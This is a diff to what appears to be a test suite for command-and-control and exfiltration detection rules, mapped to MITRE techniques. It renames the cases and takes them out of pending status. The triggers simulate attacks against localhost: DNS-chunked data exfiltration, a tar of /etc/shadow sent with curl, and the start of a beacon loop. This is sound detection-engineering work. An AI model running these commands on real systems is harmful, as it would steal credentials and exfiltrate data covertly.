@@ -153,10 +153,10 @@ BENIGN = [
          ''', where=BOTH, needs=["curl"]),
 ]
 
-# Sequence and threshold rules (rules/pending/c2.yaml): run with --pending.
+# Sequence and threshold rules (the end of rules/70_command_and_control.yaml).
 CASES += [
-    Case(id="c2.pending.dns_query_burst", tactic="command_and_control", technique="T1071.004",
-         rules=["DNS Query Burst from One Process"], pending=True,
+    Case(id="c2.seq.dns_query_burst", tactic="command_and_control", technique="T1071.004",
+         rules=["DNS Query Burst from One Process"],
          trigger=r'''
             /usr/bin/python3 - <<'EOF'
 import base64, os, socket
@@ -171,15 +171,15 @@ for i in range(0, len(data), 30):
     s.close()
 EOF
          ''', where=BOTH),
-    Case(id="c2.pending.credential_archive_sent", tactic="exfiltration", technique="T1048",
-         rules=["Credential Archive Sent Over the Network"], pending=True,
+    Case(id="c2.seq.credential_archive_sent", tactic="exfiltration", technique="T1048",
+         rules=["Credential Archive Sent Over the Network"],
          trigger=r'''
             det_listen_tcp 127.0.0.1 "$DET_PORT"
             tar czf "$DET_DIR/l.tgz" /etc/shadow 2>/dev/null || true
             timeout 3 curl -s -m 2 --data-binary "@$DET_DIR/l.tgz" "http://127.0.0.1:$DET_PORT/" || true
          ''', where=BOTH, needs=["curl"]),
-    Case(id="c2.pending.beacon_loop", tactic="command_and_control", technique="T1071",
-         rules=["Periodic Beacon from Shell or Interpreter"], pending=True,
+    Case(id="c2.seq.beacon_loop", tactic="command_and_control", technique="T1071",
+         rules=["Periodic Beacon from Shell or Interpreter"],
          trigger=r'''
             det_ns_listen 8088
             for i in $(seq 1 25); do
